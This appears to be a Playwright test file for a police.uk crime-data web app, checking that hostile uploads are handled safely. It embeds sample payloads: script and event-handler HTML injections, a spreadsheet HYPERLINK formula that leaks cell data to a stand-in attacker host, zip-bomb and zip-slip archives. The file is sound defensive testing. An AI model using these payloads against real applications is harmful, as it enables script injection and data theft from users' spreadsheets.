// Hostile input (issue #8) in the real app: for every case in tests/data/hostile/README.md,
// the page keeps working, says which file and what is wrong, keeps everything already
// loaded, runs nothing a file carries, and exports nothing a spreadsheet would run. The
// audit fixture fails any test that logs a console error or reaches another origin.
import { copyFileSync, existsSync, mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { test, expect, openApp, sampleFiles, expectedCounts, number } from './fixtures.js';
import { writeLongLineFile, writeManyColumnsFile, writeManyEntryZipBomb, writeManyFilesZip } from './hostile-files.js';

const HOSTILE = 'tests/data/hostile';
const hostile = (name) => join(HOSTILE, name);

/** The messages in the error summary, in order. */
const problems = (page) => page.locator('.error-summary li').allTextContents();

/** A load-summary row's figures: read, used, rejected, duplicates. */
async function rowFigures(page, name) {
  const row = page.locator('#load-summary tbody tr').filter({ has: page.getByRole('rowheader', { name, exact: true }) });
  await expect(row).toHaveCount(1);
  return (await row.locator('td.num').allTextContents()).map(number);
}

/**
 * A load-summary row as [read, used or replaced, rejected]. Corpus files that hold the same
 * police.uk month and force as another file picked with them are publications of it: the
 * latest replaces the others (docs/ARCHITECTURE.md, "Many files at once"), whose rows then
 * count as duplicates. Either way each row is accounted for once, which is what is checked.
 */
async function account(page, name) {
  const [read, used, rejected, ...duplicates] = await rowFigures(page, name);
  expect(read, name).toBe(used + rejected + duplicates.reduce((a, b) => a + b, 0));
  return [read, read - rejected, rejected];
}

/**
 * The good file is still loaded when other police.uk files of its month and force were picked
 * with it: every row is used or replaced by a later publication, and January keeps at least
 * each of its crimes with a Crime ID — an ID counts once whatever other publications hold; only
 * rows without one (anti-social behaviour) are replaced, as a whole, by a later publication.
 */
async function expectGoodFileAccounted(page, good) {
  const { rows } = expectedCounts(good);
  expect(await account(page, good.split('/').at(-1))).toEqual([rows, rows, 0]);
  const ids = new Set(
    parse(readFileSync(good), { columns: true, bom: true }).map((r) => r['Crime ID'].trim()).filter((id) => id !== ''),
  );
  const january = page.locator('#count-table tbody tr').filter({ has: page.getByRole('rowheader', { name: 'Jan 2023' }) });
  expect(number(await january.locator('td.total').textContent())).toBeGreaterThanOrEqual(ids.size);
}

/** The good file is still loaded, whole: its row in the load summary and January's total. */
async function expectGoodFileIntact(page, good, extraInJanuary = 0) {
  const { rows } = expectedCounts(good);
  expect(await rowFigures(page, good.split('/').at(-1))).toEqual([rows, rows, 0, 0]);
  const january = page.locator('#count-table tbody tr').filter({ has: page.getByRole('rowheader', { name: 'Jan 2023' }) });
  await expect(january.locator('td.total')).toHaveText((rows + extraInJanuary).toLocaleString('en-GB'));
}

/** Nothing a file carried has run: no flag, no injected element, no policy violation. */
async function expectNothingExecuted(page) {
  const seen = await page.evaluate(() => ({
    pwned: window.__pwned,
    element: document.getElementById('pwned') !== null,
    iframes: document.querySelectorAll('iframe').length,
    images: document.querySelectorAll('img[src="x"]').length,
    inlineScripts: [...document.scripts].filter((s) => !s.src).length,
    violations: window.__violations,
  }));
  expect(seen).toEqual({ pwned: undefined, element: false, iframes: 0, images: 0, inlineScripts: 0, violations: [] });
}

/** Clicks a download button and returns the CSV's rows. */
async function download(page, button) {
  const saving = page.waitForEvent('download');
  await page.locator(button).click();
  const text = readFileSync(await (await saving).path(), 'utf8');
  return parse(text, { relax_column_count: false });
}

const plainNumber = (cell) => /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell) && Number.isFinite(Number(cell));

/** OWASP's rule for CSV injection, on every cell. */
function expectNeutralised(rows, what) {
  for (const row of rows) {
    for (const cell of row) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(plainNumber(cell), `${what}: ${JSON.stringify(cell)} is not neutralised`).toBe(true);
    }
  }
}

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
});

test('a file that cannot be read, picked after a good one, is named with its problem and the good data stays', async ({ page }) => {
  await openApp(page);
  const good = sampleFiles()[0];
  await page.locator('#file-input').setInputFiles(good);
  await expect(page.locator('#status')).toContainText('Loaded 1 file');
  const cases = [
    ['empty.csv', /^empty\.csv is empty\. Choose the file again/],
    ['header-only.csv', /^header-only\.csv has a header but no data rows/],
    ['png-renamed.csv', /^png-renamed\.csv is not a CSV file: it looks like a PNG image\./],
    ['xlsx-renamed.csv', /^xlsx-renamed\.csv is not a CSV file: it looks like an Excel workbook \(\.xlsx\)\./],
    ['pdf-renamed.csv', /^pdf-renamed\.csv is not a CSV file: it looks like a PDF document\./],
    ['duplicate-headers.csv', /^duplicate-headers\.csv has two columns named “Month” \(columns 2 and 13 of the header on line 1\)/],
  ];
  for (const [name, message] of cases) {
    await page.locator('#file-input').setInputFiles(hostile(name));
    await expect(page.locator('.error-summary li')).toHaveText([message]);
    await expect(page.locator('#status')).toContainText('1 file could not be loaded');
    await expectGoodFileIntact(page, good);
  }
  // The page still works: the comparison can be changed and the table downloaded.
  await page.locator('#comparison').selectOption({ index: 0 });
  await expect(page.locator('#headline-table caption')).toContainText('latest month vs previous month');
  expect((await download(page, '#download-csv'))[0][0]).toBe('Month');
  await expectNothingExecuted(page);
});

test('hostile files picked all at once: each failure named, every other row accounted for', async ({ page }) => {
  await openApp(page);
  const good = sampleFiles()[0];
  const failing = ['empty.csv', 'png-renamed.csv', 'xlsx-renamed.csv', 'pdf-renamed.csv', 'header-only.csv', 'duplicate-headers.csv'];
  // [file, read, used, rejected], as the native tests find them.
  const partial = [
    ['mixed-line-endings.csv', 6, 5, 1],
    ['invalid-utf8-mid-file.csv', 9, 8, 1],
    ['utf16le-no-bom.csv', 9, 9, 0],
    ['utf16be-no-bom.csv', 9, 9, 0],
    ['title-rows.csv', 5, 5, 0],
    ['unbalanced-quotes.csv', 3, 2, 1],
    ['unbalanced-quotes-last-column.csv', 3, 2, 1],
    ['impossible-dates-street.csv', 12, 3, 9],
    ['impossible-dates-stop-search.csv', 8, 2, 6],
    ['impossible-dates-table.csv', 7, 2, 5],
    ['numbers-counts.csv', 21, 6, 15],
  ];
  await page.locator('#file-input').setInputFiles([good, ...failing.map(hostile), ...partial.map(([f]) => hostile(f))]);
  await expect(page.locator('#status')).toContainText(`Loaded ${partial.length + 1} files`);
  await expect(page.locator('#status')).toContainText(`${failing.length} files could not be loaded`);
  const messages = await problems(page);
  expect(messages).toHaveLength(failing.length);
  for (const name of failing) expect(messages.filter((m) => m.startsWith(`${name} `)), name).toHaveLength(1);
  for (const [name, read, used, rejected] of partial) {
    expect(await account(page, name), name).toEqual([read, used, rejected]);
  }
  // Each rejected row is listed under its file with line, column and reason.
  const rejects = (name) => page.locator('details.rejects').filter({ hasText: `Rejected rows in ${name} (` });
  await expect(rejects('mixed-line-endings.csv')).toContainText('Line 5, column 2: Month: expected a month written as YYYY-MM (for example 2023-01), found "2023-13"');
  await expect(rejects('invalid-utf8-mid-file.csv')).toContainText('Line 8: the line has bytes that are not valid UTF-8 text');
  await expect(rejects('unbalanced-quotes.csv')).toContainText('Line 4, column 7: a quote mark (") opens this cell and is not closed until line 7, so 3 lines');
  await expect(rejects('impossible-dates-stop-search.csv')).toContainText('found "2023-02-30T10:00:00+00:00"');
  // Months police.uk cannot have published: before Dec 2010, or after this month by the
  // browser's clock.
  const now = new Date();
  const thisMonth = `${['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][now.getMonth()]} ${now.getFullYear()}`;
  await expect(rejects('impossible-dates-street.csv')).toContainText(`Line 11, column 2: Month: 2010-11 is outside police.uk's range of months (Dec 2010 to ${thisMonth}): it is before police.uk's street-level data begins.`);
  await expect(rejects('impossible-dates-street.csv')).toContainText(`Line 12, column 2: Month: 2199-01 is outside police.uk's range of months (Dec 2010 to ${thisMonth}): it is after this month`);
  await expect(rejects('numbers-counts.csv')).toContainText('Line 6, column 5: the number is too large to use, found "9007199254740993"');
  await expectGoodFileAccounted(page, good);
  // The whole account adds up.
  const foot = (await page.locator('#load-summary tfoot td').allTextContents()).map(number);
  expect(foot[0]).toBe(foot[1] + foot[2] + foot[3]);
  await expectNothingExecuted(page);
});

test('formula and script payloads in every field: shown as text, nothing runs, every download neutralised', async ({ page }) => {
  await openApp(page);
  // File names carry payloads too.
  const dir = mkdtempSync(join(tmpdir(), 'safer-trends-hostile-'));
  const namedScript = join(dir, '<img src=x onerror="window.__pwned=1">.csv');
  const namedFormula = join(dir, '=HYPERLINK("http:attacker.invalid","x").csv');
  copyFileSync(hostile('html-injection.csv'), namedScript);
  copyFileSync(hostile('formula-injection.csv'), namedFormula);
  await page.locator('#file-input').setInputFiles([
    sampleFiles()[0], hostile('formula-injection.csv'), hostile('html-injection.csv'), namedScript, namedFormula,
  ]);
  await expect(page.locator('#status')).toContainText('Loaded 5 files');
  await expectNothingExecuted(page);

  // Payloads appear literally, as text, wherever a crime type or file name is shown.
  const headers = await page.locator('#count-table thead th').allTextContents();
  expect(headers).toContain('<script>window.__pwned=1</script>');
  expect(headers).toContain('=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")');
  await expect(page.getByRole('rowheader', { name: '<img src=x onerror="window.__pwned=1">.csv', exact: true })).toHaveCount(1);
  await expect(page.locator('#headline-table tbody th').filter({ hasText: '<svg onload="window.__pwned=1"><text>x</text></svg>' })).toHaveCount(1);
  await expect(page.locator('.small-multiples figure svg')).toHaveCount(headers.length - 2);
  await expect(page.locator('details.rejects').first()).toContainText('Line');

  for (const [button, what] of [
    ['#download-csv', 'count table'],
    ['#download-headlines', 'headlines'],
    ['#download-load-report', 'load report'],
    ['#download-reject-log', 'rejected rows'],
  ]) {
    const rows = await download(page, button);
    expect(rows.length, what).toBeGreaterThan(1);
    expectNeutralised(rows, what);
  }
  // Neutralised, not lost: the payloads are still there behind an apostrophe.
  const table = await download(page, '#download-csv');
  expect(table[0]).toContain('\'=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")');
  expect(table[0]).toContain('<script>window.__pwned=1</script>');
  const report = await download(page, '#download-load-report');
  expect(report.map((r) => r[0])).toContain('\'=HYPERLINK("http:attacker.invalid","x").csv');
  await expectNothingExecuted(page);
});

test('big hostile files: a 100 MB line, 100,000 columns, a zip bomb, a zip of hundreds of files and ../ paths', async ({ page }) => {
  test.setTimeout(240_000);
  const dir = join(tmpdir(), 'safer-trends-hostile-big');
  const longLine = join(dir, 'long-line.csv');
  const wide = join(dir, 'wide.csv');
  const bomb = join(dir, 'bomb.zip');
  const many = join(dir, 'many.zip');
  if (!existsSync(longLine) || statSync(longLine).size < 100_000_000) {
    const { mkdirSync } = await import('node:fs');
    mkdirSync(dir, { recursive: true });
    await writeLongLineFile(longLine, 100_000_000, 3, 3);
  }
  writeManyColumnsFile(wide, 100_000, 5);
  writeManyEntryZipBomb(bomb);
  const manyRows = writeManyFilesZip(many, 180, 2);

  await openApp(page);
  const good = sampleFiles()[0];
  await page.locator('#file-input').setInputFiles(good);
  await expect(page.locator('#status')).toContainText('Loaded 1 file');
  await page.locator('#file-input').setInputFiles([longLine, wide, bomb, many, hostile('zip-slip.zip')]);
  // long-line, wide, the bomb's one real entry, 180 monthly files, 3 from the ../ zip.
  await expect(page.locator('#status')).toContainText('Loaded 186 files', { timeout: 180_000 });
  await expect(page.locator('#status')).toContainText('1 file could not be loaded');
  await expect(page.locator('#status')).toContainText('zip-slip.zip: 1 entry is not CSV, so not read (../../.bashrc).');
  await expect(page.locator('.error-summary li')).toHaveText([
    /^bomb\.zip was not read: 300 of its CSV files would inflate from \d+ to \d+ bytes in all, which only a zip bomb does/,
  ]);

  expect(await account(page, 'long-line.csv')).toEqual([7, 6, 1]);
  await expect(page.locator('details.rejects').filter({ hasText: 'Rejected rows in long-line.csv (1)' })).toContainText(
    'Line 5, column 2: the row has 1 fields but the header has 12',
  );
  expect(await account(page, 'wide.csv')).toEqual([5, 5, 0]);
  expect(await account(page, 'bomb.zip › 2023-02/2023-02-city-of-london-street.csv')).toEqual([1, 1, 0]);
  expect(await account(page, 'zip-slip.zip › ../../../../tmp/evil/2023-02-city-of-london-street.csv')).toEqual([3, 3, 0]);
  expect(await account(page, 'many.zip › 2011-01/2011-01-city-of-london-street.csv')).toEqual([2, 2, 0]);
  const foot = (await page.locator('#load-summary tfoot td').allTextContents()).map(number);
  // Used or replaced by a later publication: every row read that was not rejected.
  const duplicates = foot.slice(3).reduce((a, b) => a + b, 0);
  expect(foot[1] + duplicates).toBe(expectedCounts(good).rows + 6 + 5 + 1 + manyRows + 9);

  await expectGoodFileAccounted(page, good);
  await expect(page.locator('#count-table tbody tr')).toHaveCount(180);
  expect((await download(page, '#download-csv')).length).toBe(181);
  await expectNothingExecuted(page);
});
